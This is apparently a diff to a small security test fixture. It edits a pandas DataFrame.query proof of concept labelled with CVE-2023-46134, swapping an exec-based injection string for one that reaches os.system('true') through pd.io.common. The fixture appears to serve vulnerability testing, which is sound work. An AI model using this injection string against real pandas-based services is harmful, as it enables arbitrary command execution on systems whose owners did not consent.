@@ -1,6 +1,7 @@
 # class: lineage
-# mechanism: CVE-2023-46134: query text
-# reaches: os
+# mechanism: CVE-2023-46134
+# reaches: event os.system
 import pandas as pd
-df = pd.DataFrame({"a": [1]})
-df.query("@pd.core.frame.com.builtins.exec('1')")
+df = pd.DataFrame({"a": [0]})
+text = "@pd.io.common.os.system('true') == a"
+df.query(text)
